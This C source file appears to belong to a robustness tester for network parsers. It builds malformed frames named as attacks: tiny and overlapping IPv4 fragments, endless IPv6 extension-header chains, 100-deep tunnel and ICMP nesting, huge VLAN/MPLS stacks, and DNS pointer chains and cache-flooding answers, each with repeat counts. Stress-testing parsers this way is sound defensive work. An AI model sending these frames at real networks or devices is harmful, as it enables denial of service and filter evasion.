/* SPDX-License-Identifier: BSD-3-Clause */
/* Attacks below TCP, and on the printers of application data. */
#include "attack.h"

enum { IPV4_FRAGMENT = 0x2000, DESTINATION_OPTIONS = 60, ROUTING = 43, FRAGMENT = 44, MPLS_LABELS = 16000, LONGEST = 65480 };

static uint32_t scattered(uint64_t number)
{
	return (uint32_t)(number * 2654435761u);
}

/* ---- Fragments */

static void fragment(struct frame *frame, uint64_t number, unsigned place, size_t data)
{
	frame_ethernet(frame, 0x0800);
	frame_ipv4(frame, 6);
	attack_source(frame, scattered(number));
	frame_put16(frame, frame->ip + 4, (unsigned)number);
	frame_put16(frame, frame->ip + 6, IPV4_FRAGMENT | place);
	if (place == 0)
		frame_tcp(frame, NULL, 0);
	frame_fill(frame, 'x', data);
	frame_finish(frame);
}

static void first_fragments(struct frame *frame, uint64_t number)
{
	fragment(frame, number, 0, 88);
}

static void other_fragments(struct frame *frame, uint64_t number)
{
	fragment(frame, number, 1 + (unsigned)number % 8000, 104);
}

/* Eight bytes of a TCP header each, so that its flags stand in the next one. */
static void tiny_fragments(struct frame *frame, uint64_t number)
{
	frame_ethernet(frame, 0x0800);
	frame_ipv4(frame, 6);
	attack_source(frame, scattered(number));
	frame_put16(frame, frame->ip + 6, IPV4_FRAGMENT | (number & 1));
	frame_u32(frame, 0x04000050);
	frame_u32(frame, (uint32_t)number);
	frame_finish(frame);
}

static void fragments_in_fragments(struct frame *frame, uint64_t number)
{
	frame_ethernet(frame, 0x86dd);
	frame_ipv6(frame, FRAGMENT);
	for (unsigned i = 0; i < 100; i++) {
		frame_u16(frame, (i < 99 ? FRAGMENT : 6) << 8);
		frame_u16(frame, i == 98 ? 1 : 0);
		frame_u32(frame, (uint32_t)number);
	}
	frame_tcp(frame, NULL, 0);
	frame_finish(frame);
}

/* ---- IPv6 extension headers without end */

static void extension_chain(struct frame *frame, uint64_t number)
{
	(void)number;
	frame_ethernet(frame, 0x86dd);
	frame_ipv6(frame, DESTINATION_OPTIONS);
	while (frame->size < LONGEST)
		frame_padding_header(frame, DESTINATION_OPTIONS);
	frame_finish(frame);
}

/* Two thousand options of one byte in each. */
static void extension_options(struct frame *frame, uint64_t number)
{
	(void)number;
	frame_ethernet(frame, 0x86dd);
	frame_ipv6(frame, DESTINATION_OPTIONS);
	while (frame->size < LONGEST - 2048) {
		frame_u16(frame, DESTINATION_OPTIONS << 8 | 0xff);
		frame_fill(frame, 0, 2046);
	}
	frame_finish(frame);
}

static void routing_headers(struct frame *frame, uint64_t number)
{
	frame_ethernet(frame, 0x86dd);
	frame_ipv6(frame, ROUTING);
	while (frame->size < LONGEST - 2048) {
		frame_u16(frame, ROUTING << 8 | 254);
		frame_u16(frame, 127 + ((unsigned)number & 1));
		frame_fill(frame, 0, 2036);
	}
	frame_finish(frame);
}

/* ---- Tunnels */

enum { NESTED = 100 };

static void finish_tunnel(struct frame *frame)
{
	frame_ipv4(frame, 6);
	frame_tcp(frame, NULL, 0);
	frame_finish(frame);
}

static void ip_in_ip(struct frame *frame, uint64_t number)
{
	(void)number;
	frame_ethernet(frame, 0x0800);
	for (unsigned i = 0; i < NESTED; i++)
		frame_ipv4(frame, 4);
	finish_tunnel(frame);
}

static void gre_in_gre(struct frame *frame, uint64_t number)
{
	frame_ethernet(frame, 0x0800);
	for (unsigned i = 0; i < NESTED; i++) {
		frame_ipv4(frame, 47);
		frame_u16(frame, 0x2000);
		frame_u16(frame, 0x0800);
		frame_u32(frame, (uint32_t)number);
	}
	finish_tunnel(frame);
}

static void vxlan_in_vxlan(struct frame *frame, uint64_t number)
{
	frame_ethernet(frame, 0x0800);
	for (unsigned i = 0; i < NESTED; i++) {
		frame_ipv4(frame, 17);
		frame_udp(frame, 4789, 4789);
		frame_u32(frame, 0x08000000);
		frame_u32(frame, (uint32_t)(number + i) << 8);
		frame_ethernet(frame, 0x0800);
	}
	finish_tunnel(frame);
}

static void vlan_tags(struct frame *frame, uint64_t number)
{
	frame_ethernet(frame, 0x8100);
	for (unsigned i = 0; i < LONGEST / 4; i++)
		frame_vlan(frame, (unsigned)number & 4095, 0x8100);
}

static void mpls_labels(struct frame *frame, uint64_t number)
{
	frame_ethernet(frame, 0x8847);
	for (unsigned i = 0; i < MPLS_LABELS; i++)
		frame_u32(frame, (uint32_t)(number + i) << 12 | 64);
}

/* Each error quotes the datagram of an error. */
static void errors_about_errors(struct frame *frame, uint64_t number)
{
	(void)number;
	frame_ethernet(frame, 0x0800);
	for (unsigned i = 0; i < NESTED; i++) {
		frame_ipv4(frame, 1);
		frame_u32(frame, 0x03010000);
		frame_u32(frame, 0);
	}
	finish_tunnel(frame);
}

/* ---- Names: a chain of pointers, each to the one before it, and as many questions that follow it as there is room for. */

static void begin_dns(struct frame *frame, unsigned questions)
{
	frame_ethernet(frame, 0x0800);
	frame_ipv4(frame, 17);
	frame_udp(frame, 53, 53);
	frame_u32(frame, 0x00010100);
	frame_u16(frame, questions);
	frame_u16(frame, 0);
	frame_u32(frame, 0);
}

static void name_pointers(struct frame *frame, uint64_t number)
{
	enum { CHAIN = 8000 };
	(void)number;
	begin_dns(frame, 65535);
	/* The first question's name is the chain's bytes, as labels. */
	for (unsigned i = 0; i < 60; i++) {
		frame_u8(frame, 63);
		frame_fill(frame, 'a', 63);
	}
	frame_u8(frame, 0);
	frame_u32(frame, 0x00010001);
	size_t message = frame->ip + 28;
	unsigned before = (unsigned)(frame->size - message) - 5;
	for (unsigned i = 0; i < CHAIN && frame->size < LONGEST && frame->size - message < 0x3f00; i++) {
		unsigned at = (unsigned)(frame->size - message);
		frame_u16(frame, 0xc000 | before);
		frame_u32(frame, 0x00010001);
		before = at;
	}
	while (frame->size < LONGEST) {
		frame_u16(frame, 0xc000 | before);
		frame_u32(frame, 0x00010001);
	}
	frame_finish(frame);
}

/* Each question of six bytes shows the same 255 characters. */
static void long_names(struct frame *frame, uint64_t number)
{
	(void)number;
	begin_dns(frame, 65535);
	for (unsigned i = 0; i < 4; i++) {
		frame_u8(frame, 62);
		frame_fill(frame, 0xff, 62);
	}
	frame_u8(frame, 0);
	frame_u32(frame, 0x00010001);
	while (frame->size < LONGEST) {
		frame_u16(frame, 0xc00c);
		frame_u32(frame, 0x00010001);
	}
	frame_finish(frame);
}

/*
 * Answers that each give a name of ten pointers and 253 characters to new addresses, as many as a frame of an Ethernet's size holds: what has
 * been learned gives way to them.
 */
static void learned_names(struct frame *frame, uint64_t number)
{
	enum { POINTERS = 9 };
	frame_ethernet(frame, 0x0800);
	frame_ipv4(frame, 17);
	frame_udp(frame, 53, 40000);
	frame_u32(frame, 0x00018180);
	frame_u32(frame, 0x0001ffff);
	frame_u32(frame, 0);
	size_t message = frame->ip + 28;
	for (unsigned i = 0; i < 4; i++) {
		frame_u8(frame, 62);
		frame_fill(frame, 'a', 62);
	}
	frame_u8(frame, 0);
	frame_u32(frame, 0x00010001);
	unsigned before = 12;
	/* Records of another kind, in whose data the pointers stand. */
	for (unsigned i = 0; i < POINTERS; i++) {
		frame_u16(frame, 0xc00c);
		frame_u32(frame, 0x00100001);
		frame_u32(frame, 300);
		frame_u16(frame, 2);
		unsigned at = (unsigned)(frame->size - message);
		frame_u16(frame, 0xc000 | before);
		before = at;
	}
	for (uint64_t address = number * 64; frame->size < 1400; address++) {
		frame_u16(frame, 0xc000 | before);
		frame_u32(frame, 0x00010001);
		frame_u32(frame, 300);
		frame_u16(frame, 4);
		frame_u32(frame, 0x0b000000 + (uint32_t)address);
	}
	frame_finish(frame);
}

const struct attack network_attacks[] = {
	{ "first fragments", first_fragments, 50000, 0 },
	{ "other fragments", other_fragments, 50000, 0 },
	{ "tiny fragments", tiny_fragments, 50000, 0 },
	{ "fragment headers, 100 in a frame", fragments_in_fragments, 10000, 0 },
	{ "extension headers, 8,000 in a frame", extension_chain, 200, 0 },
	{ "extension headers of 2,046 options", extension_options, 200, 0 },
	{ "routing headers", routing_headers, 200, 0 },
	{ "IP in IP, 100 deep", ip_in_ip, 10000, 0 },
	{ "GRE in GRE, 100 deep", gre_in_gre, 10000, 0 },
	{ "VXLAN in VXLAN, 100 deep", vxlan_in_vxlan, 10000, 0 },
	{ "VLAN tags, 16,000 in a frame", vlan_tags, 200, 0 },
	{ "MPLS labels, 16,000 in a frame", mpls_labels, 200, 0 },
	{ "ICMP errors about errors, 100 deep", errors_about_errors, 10000, 0 },
	{ "DNS pointers to pointers", name_pointers, 200, 0 },
	{ "DNS names that are repeated", long_names, 100, 0 },
	{ "DNS answers with new names", learned_names, 20000, 0 },
	{ .name = NULL },
};
